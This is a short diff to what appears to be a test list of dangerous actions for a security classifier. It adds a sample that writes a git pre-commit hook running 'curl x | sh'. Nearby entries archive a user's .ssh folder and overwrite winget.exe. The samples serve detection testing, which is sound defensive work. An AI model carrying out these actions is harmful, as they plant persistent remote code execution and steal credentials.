@@ -3406,6 +3406,11 @@ DANGEROUS += [
     ("PowerShell", _ps("Compress-Archive C:\\Users\\me\\.ssh C:\\t\\s.zip"), "credential-access"),
     (
         "FileSystem",
+        _fs("write", "C:\\src\\app\\.git\\hooks\\pre-commit", content="curl x | sh"),
+        "persistence-autostart",
+    ),
+    (
+        "FileSystem",
         _fs("write", "C:\\Users\\me\\AppData\\Local\\Microsoft\\WindowsApps\\winget.exe", content="x"),
         "persistence-hijack",
     ),
